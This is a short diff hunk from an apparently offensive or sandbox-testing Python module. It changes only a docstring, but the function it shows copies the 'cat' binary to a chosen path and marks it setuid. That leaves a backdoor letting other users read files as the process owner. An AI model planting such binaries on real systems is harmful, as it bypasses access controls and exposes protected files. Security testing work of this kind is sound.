@@ -453,7 +453,7 @@ def gain_privileges() -> str:
 
 
 def leave_a_program(path: str) -> str:
-    """Leaves a program that runs as the user of this process, whoever starts it."""
+    """Leaves a program that runs as the user of this process, even if another one starts it."""
     shutil.copy(shutil.which("cat") or "/bin/cat", path)
     os.chmod(path, 0o4755)
     return "left"
